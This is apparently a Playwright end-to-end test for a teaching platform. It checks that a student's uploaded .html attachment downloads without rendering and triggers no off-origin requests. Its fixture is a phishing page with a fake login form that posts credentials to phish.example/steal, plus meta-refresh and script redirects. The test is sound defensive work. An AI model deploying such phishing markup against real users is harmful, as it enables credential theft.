// A student's web page handed in as an assignment attachment stays a file: the teacher opens the
// student's submission, clicks the `.html` attachment and gets a download under its name (the server
// types files by their bytes and answers markup as `attachment`, with `default-src 'none'; sandbox`).
// The page the student wrote (a fake sign-in form posting off-site, a meta refresh, an image on another
// host) never opens: no page of the teacher's browser leaves the console's origin and no request
// reaches another host. Runs after the ordered scenarios (it needs no earlier state and leaves the
// class it starts ended).
import { readFile } from "node:fs/promises";

import type { Download, Page, Request } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";

import { baseUrl, launch, loginVia, person, screenshot } from "./helpers";

const STUDENT = "student01";
const TEACHER = "teacher2";
const NAME = "作业说明.html";
const PAGE = `<!doctype html><html><head><meta charset="utf-8">
<meta http-equiv="refresh" content="2;url=http://phish.example/login"></head>
<body><h1>请重新登录</h1><img src="http://phish.example/pixel.png">
<form action="http://phish.example/steal" method="post"><input name="username"><input name="password" type="password">
<button>登录</button></form><script>location.href = "http://phish.example/js";</script></body></html>`;

let browser: Awaited<ReturnType<typeof launch>>;

/** Signs in over HTTP and answers the access token. */
async function tokenOf(username: string, password: string): Promise<string> {
  const r = await fetch(`${baseUrl()}/admin-api/teach/auth/login`, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ username, password }),
  });
  const body = (await r.json()) as { code: number; data: { accessToken: string } };
  expect(body.code).toBe(0);
  return body.data.accessToken;
}

/** Calls the API as `token` and answers `data` (failing on any refusal). */
async function api<T>(token: string, method: string, path: string, body?: unknown): Promise<T> {
  const r = await fetch(`${baseUrl()}/admin-api${path}`, {
    method,
    headers: {
      authorization: `Bearer ${token}`,
      ...(body === undefined ? {} : { "content-type": "application/json" }),
    },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  });
  const answer = (await r.json()) as { code: number; msg: string; data: T };
  if (answer.code !== 0) throw new Error(`${method} ${path}: ${answer.code} ${answer.msg}`);
  return answer.data;
}

let teacherToken = "";
let assignmentId = 0;
let studentId = 0;
let attachmentPath = "";

beforeAll(async () => {
  browser = await launch();
  teacherToken = await tokenOf(TEACHER, "teacher123");
  const studentToken = await tokenOf(STUDENT, "student123");

  // A class of the teacher's, started for this scenario.
  // (Another scenario may have left a class running: end it; "no class running" is fine too.)
  await api(teacherToken, "GET", "/teach/course-item/end").catch(() => undefined);
  const [course] = await api<{ id: number }[]>(teacherToken, "GET", "/teach/course/my");
  const item = await api<{ id: number }>(teacherToken, "GET", `/teach/course-item/start?courseId=${course!.id}`);

  // An assignment with one file question, published with a deadline far from any test clock.
  assignmentId = await api<number>(teacherToken, "POST", "/teach/assignment/create", {
    courseItemId: item.id,
    title: "网页作业",
    deadline: Date.now() + 365 * 86_400_000,
    questions: [{ type: 5, title: "上传你的网页", score: 10 }],
  });
  await api(teacherToken, "PUT", "/teach/assignment/update", { id: assignmentId, stage: "published" });
  const assignment = await api<{ questions: { id: number }[] }>(
    teacherToken,
    "GET",
    `/teach/assignment/get?id=${assignmentId}`,
  );

  // The student uploads the page (declared as a picture, to make it harder) and hands it in.
  const form = new FormData();
  form.append("file", new Blob([PAGE], { type: "image/png" }), NAME);
  const uploaded = await fetch(`${baseUrl()}/admin-api/teach/file/s3/ali/api`, {
    method: "POST",
    headers: { authorization: `Bearer ${studentToken}` },
    body: form,
  });
  const stored = (await uploaded.json()) as { code: number; data: { path: string } };
  expect(stored.code).toBe(0);
  attachmentPath = stored.data.path;
  await api(studentToken, "POST", `/teach/assignment/record?assignmentId=${assignmentId}`, {
    answers: [{ questionId: assignment.questions[0]!.id, fileUrls: [attachmentPath] }],
  });
  studentId = (await api<{ id: number }>(studentToken, "GET", "/teach/user/current")).id;
});

afterAll(async () => {
  if (teacherToken) await api(teacherToken, "GET", "/teach/course-item/end").catch(() => undefined);
  await browser?.close();
});

describe("a student's .html attachment", () => {
  it("downloads when the teacher clicks it, and nothing leaves the console's origin", async () => {
    const teacher = await person(browser, TEACHER);
    const origin = new URL(baseUrl()).origin;
    const requests: string[] = [];
    const visited: string[] = [];
    const downloads: Download[] = [];
    const watch = (page: Page) => {
      page.on("framenavigated", (frame) => visited.push(frame.url()));
      page.on("download", (download) => downloads.push(download));
    };
    teacher.context.on("request", (request: Request) => requests.push(request.url()));
    teacher.context.on("page", watch);
    watch(teacher.page);

    const submission = `/teacher/assignment/user/${assignmentId}/${studentId}`;
    await loginVia(teacher.page, submission, TEACHER, "teacher123");
    await teacher.page.waitForURL(`**${submission}`);
    const link = teacher.page.locator(`a[href*="${attachmentPath}"]`);
    await link.waitFor();
    await screenshot(teacher.page, "attachment-safety-submission");
    await link.click();

    await expect.poll(() => downloads.length, { timeout: 10_000 }).toBe(1);
    const download = downloads[0]!;
    expect(download.suggestedFilename()).toBe(NAME);
    const saved = await download.path();
    expect(await readFile(saved, "utf8")).toBe(PAGE);

    // Whatever tab the click opened, none of them ever showed a page of another origin (the meta
    // refresh and the script would have gone to phish.example had the page been rendered).
    for (const url of visited) {
      if (url === "about:blank" || url === "") continue;
      expect(new URL(url).origin, url).toBe(origin);
    }
    for (const page of teacher.context.pages()) {
      const url = page.url();
      if (url !== "about:blank") expect(new URL(url).origin, url).toBe(origin);
    }
    const elsewhere = requests.filter((url) => !/^(data|blob):/.test(url) && new URL(url).origin !== origin);
    expect(elsewhere).toEqual([]);
    expect(teacher.errors).toEqual([]);
    await teacher.context.close();
  });
});
